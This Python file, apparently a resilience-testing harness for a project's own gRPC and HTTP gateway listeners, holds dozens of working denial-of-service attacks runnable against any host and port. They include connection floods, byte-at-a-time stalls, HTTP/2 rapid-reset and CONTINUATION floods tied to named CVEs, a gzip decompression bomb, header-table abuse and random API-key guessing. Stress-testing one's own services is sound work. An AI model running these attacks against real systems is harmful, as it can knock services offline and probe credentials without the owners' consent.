"""Attacks on a listener, by name. Each is a function (address, until, at): it goes on until until() is true
and returns the connections that it still holds; at says what the listener is (class At).

    attacks.py NAME HOST:PORT SECONDS [PATH [KEY]]    # runs one alone
    attacks.py sink HOST:PORT SECONDS                 # takes and drops what others send
"""
import gzip, json, os, selectors, socket, struct, sys, threading, time
sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "cluster"))
sys.path.insert(0, os.path.dirname(__file__))
import h2

GENERATE, ATTACH = "/tandem.v1.Tandem/Generate", "/tandem.worker.v1.Worker/Attach"
MIB = 1 << 20


class At:
    """path: a method of the listener, if it speaks gRPC. key: an API key that it knows. many: how many
    connections an attack opens."""

    def __init__(self, path=GENERATE, key=None, many=12):
        self.path, self.many = path, many
        self.key = [(b"authorization", b"Bearer " + key.encode())] if key else []


# name: function; for every listener, for gRPC's, for clients with a key, for clients with a key whose tenant
# has limits (what these send is work, of which a tenant without limits may ask for what is left), for the
# gateway
TCP, HTTP2, API, WORK, WEB = {}, {}, {}, {}, {}


def attack(group):
    def add(f):
        group[f.__name__] = f
        return f
    return add


def hold(until):
    while not until():
        time.sleep(0.05)


def connect(address, said=b""):
    """None: it is refused."""
    host, port = address.rsplit(":", 1)
    try:
        s = socket.create_connection((host, int(port)), timeout=1)
        if said:
            s.sendall(said)
        return s
    except OSError:
        return None


def crowd(address, until, said, most=1300):
    """Opens connections that say no more than this, and new ones for those that are closed."""
    held = []
    while not until():
        while len(held) < most and not until():
            s = connect(address, said)
            if s:
                s.setblocking(False)
                held.append(s)
        for s in list(held):
            try:
                over = s.recv(65536) == b""
            except BlockingIOError:
                continue
            except OSError:
                over = True
            if over:
                s.close()
                held.remove(s)
        time.sleep(0.05)
    return held


def each(address, until, say, pause=0.0):
    """One connection after the other, on which say(socket) writes as long as it likes."""
    while not until():
        s = connect(address)
        if s:
            try:
                say(s)
            except OSError:
                pass
            s.close()
        time.sleep(pause if s else 0.01)
    return []


def pour(until, data):
    def say(s):
        while not until():
            s.sendall(data)
    return say


# ------------------------------------------------------------------------------------------- any listener

@attack(TCP)
def silent_connections(address, until, at):
    return crowd(address, until, b"")


@attack(TCP)
def half_a_preface(address, until, at):
    return crowd(address, until, h2.PREFACE[:7])


@attack(TCP)
def connections_that_come_and_go(address, until, at):
    return each(address, until, lambda s: None)


@attack(TCP)
def connections_that_are_reset(address, until, at):
    return each(address, until, lambda s: s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0)))


@attack(TCP)
def noise(address, until, at):
    return each(address, until, lambda s: [s.sendall(os.urandom(65536)) for _ in range(16)])


@attack(TCP)
def zeros_without_end(address, until, at):
    return each(address, until, pour(until, bytes(1 << 16)))


@attack(TCP)
def web_requests(address, until, at):
    return each(address, until, lambda s: s.sendall(b"GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n" * 20))


@attack(TCP)
def web_requests_without_end(address, until, at):
    return each(address, until, pour(until, b"GET / HTTP/1.1\r\nX: " + b"y" * 60000 + b"\r\n"))


@attack(TCP)
def hellos_of_tls(address, until, at):
    hello = bytes.fromhex("16030100c8010000c40303") + os.urandom(32) + b"\0" + bytes(164)
    return each(address, until, lambda s: s.sendall(hello))


@attack(TCP)
def a_byte_at_a_time(address, until, at):
    held, text = [connect(address) for _ in range(200)], h2.PREFACE + h2.frame(h2.SETTINGS) * 100
    n = 0
    while not until():
        for s in filter(None, held):
            try:
                s.sendall(text[n:n + 1])
            except OSError:
                pass
        n += 1
        time.sleep(0.1)
    return [s for s in held if s]


@attack(TCP)
def urgent_bytes(address, until, at):
    def say(s):
        for _ in range(200):
            s.send(b"!", socket.MSG_OOB)
            s.send(h2.PREFACE)
    return each(address, until, say)


@attack(TCP)
def frames_of_the_data_plane(address, until, at):
    def say(s):  # transfer/wire_tcp.c
        for header, payload in ((bytes(8), 1 << 40), (bytes(65535), 0), (os.urandom(64), 64), (b"", 0)):
            s.sendall(struct.pack("<IHHQ", 0x314D4454, len(header), 0, payload) + header + bytes(64))
    return each(address, until, say)


# ----------------------------------------------------------------------------------------- gRPC's listeners

def busy(address, until, write):
    """A connection on which write(connection) is called again and again; a new one when it is closed."""
    held = []
    while not until():
        if not held or held[-1].is_over or held[-1].next > 1 << 24:
            try:
                held.append(h2.Connection(address))
            except OSError:
                time.sleep(0.01)
                continue
        write(held[-1])
    return held


@attack(HTTP2)
def connections_without_calls(address, until, at):
    return crowd(address, until, h2.PREFACE + h2.frame(h2.SETTINGS))


@attack(HTTP2)
def connections_that_greet_and_go(address, until, at):
    return each(address, until, lambda s: s.sendall(h2.PREFACE + h2.frame(h2.SETTINGS)))


@attack(HTTP2)
def compressed_messages(address, until, at):
    conn, bomb = h2.Connection(address), gzip.compress(bytes(1024 * MIB), 9)
    for _ in range(2):
        stream = conn.open(at.path, (b"grpc-encoding", b"gzip"))
        conn.write(stream, h2.message(bomb, True), end=True)
    hold(until)
    return [conn]


@attack(HTTP2)
def unfinished_messages(address, until, at):
    held = []
    for _ in range(at.many):
        conn = h2.Connection(address)
        held.append(conn)
        for _ in range(10):
            conn.write(conn.open(at.path), h2.message(bytes(4 * MIB - 64))[:-1000])
    hold(until)
    return held


@attack(HTTP2)
def half_open_calls(address, until, at):
    conn = h2.Connection(address)
    for _ in range(30000):
        conn.open(at.path)
    hold(until)
    return [conn]


@attack(HTTP2)
def rapid_resets(address, until, at):
    def write(conn):
        out = b""
        for _ in range(100):
            out += h2.frame(h2.HEADERS, h2.END_HEADERS, conn.next, h2.call_fields(at.path))
            out += h2.frame(h2.RST_STREAM, 0, conn.next, struct.pack(">I", 8))
            conn.next += 2
        conn.send(out)
    return busy(address, until, write)


@attack(HTTP2)
def resets_with_requests_on_connections_made_before(address, until, at):
    """Each call has a message, and nothing that was noticed on one connection keeps the others out."""
    conns = [h2.Connection(address) for _ in range(45)]
    time.sleep(1.2)
    fields, reset, least = h2.call_fields(at.path), struct.pack(">I", 8), time.monotonic() + 2

    def flood(mine):
        for conn in mine:
            while not conn.is_over and (time.monotonic() < least or not until()):
                out = b""
                for _ in range(100):
                    out += h2.frame(h2.HEADERS, h2.END_HEADERS, conn.next, fields)
                    out += h2.frame(h2.DATA, h2.END_STREAM, conn.next, h2.message(b""))
                    out += h2.frame(h2.RST_STREAM, 0, conn.next, reset)
                    conn.next += 2
                if not conn.send(out):
                    break
    threads = [threading.Thread(target=flood, args=(conns[i::3],)) for i in range(3)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    return conns


@attack(HTTP2)
def endless_headers(address, until, at):
    held = []
    while not until():
        conn = h2.Connection(address)
        held.append(conn)
        conn.send(h2.frame(h2.HEADERS, 0, 1, h2.call_fields(at.path)))
        for i in range(200):
            if until() or not conn.send(h2.frame(h2.CONTINUATION, 0, 1, h2.field(b"x%d" % i, b"y" * 16000))):
                break
    return held


@attack(HTTP2)
def empty_continuations(address, until, at):
    """CVE-2024-27316 and its siblings: frames without bytes count against no limit of headers."""
    def write(conn):
        conn.send(h2.frame(h2.HEADERS, 0, conn.next, b""))
        while not until() and not conn.is_over and conn.send(h2.frame(h2.CONTINUATION, 0, conn.next) * 1000):
            pass
        conn.is_over = True
    return busy(address, until, write)


@attack(HTTP2)
def pings_and_settings_that_are_not_read(address, until, at):
    held = []
    while not until():
        try:
            conn = h2.Connection(address, reads=False)
        except OSError:
            time.sleep(0.01)
            continue
        held.append(conn)
        conn.socket.settimeout(0.5)
        for one in (h2.frame(h2.PING, payload=bytes(8)), h2.frame(h2.SETTINGS)):
            while not until() and conn.send(one * 1000):
                pass
    return held


@attack(HTTP2)
def pings_that_are_read(address, until, at):
    return busy(address, until, lambda conn: conn.send(h2.frame(h2.PING, payload=bytes(8)) * 100))


@attack(HTTP2)
def window_updates(address, until, at):
    return busy(address, until, lambda conn: conn.send(h2.frame(h2.WINDOW_UPDATE, payload=struct.pack(">I", 1)) * 200))


@attack(HTTP2)
def windows_that_overflow(address, until, at):
    most = struct.pack(">I", (1 << 31) - 1)
    return each(address, until, lambda s: s.sendall(h2.PREFACE + h2.frame(h2.SETTINGS) +
                                                     h2.frame(h2.WINDOW_UPDATE, payload=most) * 10))


@attack(HTTP2)
def empty_data_frames(address, until, at):
    def write(conn):
        stream = conn.open(at.path)
        conn.send(h2.frame(h2.DATA, 0, stream) * 1000)
    return busy(address, until, write)


@attack(HTTP2)
def padded_data(address, until, at):
    """255 bytes of padding for none of content."""
    def write(conn):
        stream = conn.open(at.path)
        conn.send(h2.frame(h2.DATA, 8, stream, b"\xff" + bytes(255)) * 200)
    return busy(address, until, write)


@attack(HTTP2)
def priorities(address, until, at):
    """Each stream depends on the one before (and, at last, on itself)."""
    def write(conn):
        out = b""
        for i in range(500):
            out += h2.frame(2, 0, 2 * i + 1, struct.pack(">IB", 2 * i - 1 if i else 1, 255))
        conn.send(out)
    return busy(address, until, write)


@attack(HTTP2)
def frames_of_unknown_kinds(address, until, at):
    return busy(address, until, lambda conn: conn.send(h2.frame(0x77, 0xff, 1, bytes(1000)) * 50))


@attack(HTTP2)
def frames_that_are_too_long(address, until, at):
    return each(address, until, lambda s: s.sendall(h2.PREFACE + h2.frame(h2.SETTINGS) +
                                                     b"\xff\xff\xff" + bytes(6) + bytes(65536)))


@attack(HTTP2)
def paths_that_are_not_there(address, until, at):
    def write(conn):
        for i in range(50):
            conn.write(conn.open(f"/tandem.v1.Tandem/{'x' * (i * 37 % 2000)}"), h2.message(b"x"), end=True)
    return busy(address, until, write)


@attack(HTTP2)
def messages_that_are_none(address, until, at):
    def write(conn):
        for _ in range(50):
            conn.write(conn.open(at.path, *at.key), h2.message(os.urandom(200)), end=True)
    return busy(address, until, write)


@attack(HTTP2)
def lengths_that_lie(address, until, at):
    def write(conn):
        for n in (0xffffffff, 0x7fffffff, 1 << 30):
            conn.write(conn.open(at.path, *at.key), struct.pack(">BI", 0, n) + bytes(100), end=True)
    return busy(address, until, write)


@attack(HTTP2)
def tables_of_headers_that_grow(address, until, at):
    """Each field goes into the dynamic table, and is named a thousand times."""
    def write(conn):
        block = h2.call_fields(at.path) + b"\x40\x01z\x7f\xa1\x1e" + b"q" * 4000 + b"\xbe" * 1000
        conn.send(h2.frame(h2.HEADERS, h2.END_HEADERS, conn.next, block))
        conn.next += 2
    return busy(address, until, write)


@attack(HTTP2)
def strings_and_numbers_without_end(address, until, at):
    """CVE-2023-33953: a header string is read whole before its length is looked at, and a number may have any
    number of leading zeros."""
    held = []
    for k in range(at.many):
        conn = h2.Connection(address)
        held.append(conn)
        long = b"\0\x01x\x7f" + b"\xff\xff\xff\xff\x0e" if k % 2 else b"\0\x01x\x7f"
        conn.send(h2.frame(h2.HEADERS, 0, 1, h2.call_fields(at.path) + long))
        more = h2.frame(h2.CONTINUATION, 0, 1, (b"y" if k % 2 else b"\x80") * 16384)
        for _ in range(2000):  # 32 MiB
            if until() or not conn.send(more):
                break
    hold(until)
    return held


@attack(HTTP2)
def headers_that_end_old_releases(address, until, at):
    """CVE-2023-1428: one of these, and more than 8 KiB of headers after it."""
    held = []
    for odd in ((b"te", b"x"), (b":scheme", b"x"), (b"grpclb_client_stats", b"x"), (b"content-type", b"x"),
                (b":status", b"x"), (b"grpc-timeout", b"x"), (b"grpc-encoding", b"x" * 300)):
        for size in (9000, 20000):
            conn = h2.Connection(address)
            held.append(conn)
            many = [(b"x%d" % i, b"y" * 900) for i in range(size // 900)]
            for without in ((), odd[:1]):  # beside the right one, or instead of it
                conn.open(at.path, odd, (b"x", b"y" * size), without=without)
                conn.open(at.path, odd, *many, without=without)
    hold(until)
    return held


@attack(HTTP2)
def readers_without_a_window(address, until, at):
    from client import request
    held = []
    asked = request(ids=list(range(1, 30)), max_tokens=60, stopping__ignore_eos=True).SerializeToString()
    for _ in range(20):
        conn = h2.Connection(address, settings=struct.pack(">HI", 4, 0))
        held.append(conn)
        for _ in range(10):
            conn.write(conn.open(at.path, *at.key), h2.message(asked), end=True)
    hold(until)
    return held


@attack(HTTP2)
def wrong_hellos(address, until, at):
    def write(conn):
        for _ in range(100):
            if not conn.write(conn.open(ATTACH), h2.message(b"\x0a\x04\x0a\x02hi")):
                break
    return busy(address, until, write)


@attack(HTTP2)
def long_messages_before_the_hello(address, until, at):
    held = []
    for _ in range(at.many // 2):
        conn = h2.Connection(address)
        held.append(conn)
        conn.write(conn.open(ATTACH), h2.message(bytes(60 * MIB))[:-1000])
    hold(until)
    return held


# ------------------------------------------------------------------------------- clients that have a key

def calls(address, until, at, method, messages):
    def write(conn):
        for m in messages:
            conn.write(conn.open("/tandem.v1.Tandem/" + method, *at.key), h2.message(m), end=True)
    return busy(address, until, write)


@attack(API)
def long_texts_to_tokenize(address, until, at):
    text = os.urandom(1 << 18).hex().encode()
    from client import pb
    return calls(address, until, at, "Tokenize", [pb.TokenizeRequest(text=text).SerializeToString()])


@attack(API)
def many_texts_to_tokenize(address, until, at):
    from client import pb
    return calls(address, until, at, "Tokenize", [pb.TokenizeRequest(text=b"a b c").SerializeToString()] * 50)


@attack(API)
def texts_to_tokenize_as_fast_as_answers_come(address, until, at):
    """By clients that keep to the protocol: 100 calls of each are open at most."""
    from client import pb
    asked = h2.message(pb.TokenizeRequest(text=b"a b c").SerializeToString())
    held = []
    while not until():
        held = [c for c in held if not c.is_over]
        while len(held) < 4:
            try:
                held.append(h2.Connection(address))
            except OSError:
                time.sleep(0.01)
                break
        busy = False
        for c in held:
            while c.next // 2 - c.came.get(h2.DATA, 0) < 100 and not c.is_over:
                c.write(c.open("/tandem.v1.Tandem/Tokenize", *at.key), asked, end=True)
                busy = True
        if not busy:
            time.sleep(0.001)
    return held


@attack(API)
def requests_that_are_wrong(address, until, at):
    from client import request
    wrong = [request(ids=[1, 2], max_tokens=1 << 30), request(ids=[1 << 31], max_tokens=1),
             request(ids=[1], max_tokens=4, sampling__temperature=-1)]
    return calls(address, until, at, "Generate", [w.SerializeToString() for w in wrong] * 20)


def asker(at):
    """A function that sends twenty requests for long answers on a connection."""
    from client import request
    asked = h2.message(request(ids=list(range(1, 60)), max_tokens=400, stopping__ignore_eos=True).SerializeToString())

    def ask(conn):
        for _ in range(20):
            conn.write(conn.open(GENERATE, *at.key), asked, end=True)
    return ask


@attack(API)
def requests_that_are_dropped(address, until, at):
    """Opened, and their connection is closed before anything comes."""
    ask = asker(at)

    def write(conn):
        ask(conn)
        conn.close()
    return busy(address, until, write)


@attack(WORK)
def requests_that_are_dropped_when_they_are_answered(address, until, at):
    """The first byte of an answer ends their connection."""
    ask = asker(at)

    def write(conn):
        ask(conn)
        while not conn.is_over and not conn.came.get(h2.DATA) and not until():
            time.sleep(0.001)
        conn.close()
    threads = [threading.Thread(target=busy, args=(address, until, write)) for _ in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    return []


@attack(API)
def requests_that_are_dropped_late(address, until, at):
    """Opened, and their connection is closed when they are being served."""
    ask, held = asker(at), []
    while not until():
        try:
            conn = h2.Connection(address)
        except OSError:
            time.sleep(0.01)
            continue
        ask(conn)
        held.append((time.monotonic(), conn))
        while held and (time.monotonic() - held[0][0] > 0.2 or held[0][1].is_over):
            held.pop(0)[1].close()
    return [conn for _, conn in held]


@attack(API)
def pins(address, until, at):
    from client import pb, request
    asked = [pb.PinRequest(prefix=request(ids=[i % 250 + 1] * 100), ttl_ms=60000).SerializeToString()
             for i in range(50)]
    return calls(address, until, at, "Pin", asked)


@attack(API)
def keys_that_are_guessed(address, until, at):
    def write(conn):
        for _ in range(50):
            guess = f"Bearer td-{os.urandom(8).hex()}-{os.urandom(32).hex()}".encode()
            conn.write(conn.open(GENERATE, (b"authorization", guess)), h2.message(b""), end=True)
    return busy(address, until, write)


# ------------------------------------------------------------------------------------------------ the gateway

def post(at, body, **fields):
    lines = {"Host": "x", "Content-Type": "application/json", "Content-Length": len(body), **fields}
    if at.key:
        lines["Authorization"] = at.key[0][1].decode()
    head = "".join(f"{k}: {v}\r\n" for k, v in lines.items())
    return f"POST /v1/completions HTTP/1.1\r\n{head}\r\n".encode() + body


def completion(**fields):
    return json.dumps({"model": "tandem-demo", "prompt": list(range(1, 60)), **fields}).encode()


@attack(WEB)
def posts_that_are_dropped(address, until, at):
    asked = post(at, completion(max_tokens=400, ignore_eos=True))
    return each(address, until, lambda s: s.sendall(asked))


@attack(WEB)
def posts_that_are_wrong(address, until, at):
    asked = post(at, completion(max_tokens=-1)) * 50
    return each(address, until, lambda s: (s.sendall(asked), s.recv(1 << 16)))


@attack(WEB)
def bodies_that_never_end(address, until, at):
    return crowd(address, until, post(at, b"", **{"Content-Length": 4 * MIB}) + b"{", most=600)


@attack(WEB)
def chunks_of_one_byte(address, until, at):
    head = post(at, b"", **{"Transfer-Encoding": "chunked"}).replace(b"Content-Length: 0\r\n", b"")
    return each(address, until, lambda s: (s.sendall(head), pour(until, b"1\r\n{\r\n" * 4096)(s)))


# --------------------------------------------------------------------------------------------- as a program

def sink(address, until):
    """Accepts everybody, and drops what they send."""
    host, port = address.rsplit(":", 1)
    server = socket.create_server((host, int(port)), backlog=1024)
    server.setblocking(False)
    poll = selectors.DefaultSelector()
    poll.register(server, selectors.EVENT_READ)
    buffer = bytearray(1 << 20)
    while not until():
        for event, _ in poll.select(0.1):
            if event.fileobj is server:
                try:
                    s, _ = server.accept()
                    s.setblocking(False)
                    poll.register(s, selectors.EVENT_READ)
                except OSError:
                    pass
                continue
            try:
                n = event.fileobj.recv_into(buffer)
            except BlockingIOError:
                continue
            except OSError:
                n = 0
            if not n:
                poll.unregister(event.fileobj)
                event.fileobj.close()


def main():
    name, address, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
    end = time.monotonic() + seconds
    until = lambda: time.monotonic() > end
    if name == "sink":
        return sink(address, until)
    f = {**TCP, **HTTP2, **API, **WORK, **WEB}[name]
    try:
        f(address, until, At(*sys.argv[4:6]))
    except OSError as e:
        print(f"{name}: {e}", file=sys.stderr)
        while not until():
            time.sleep(0.05)


if __name__ == "__main__":
    main()
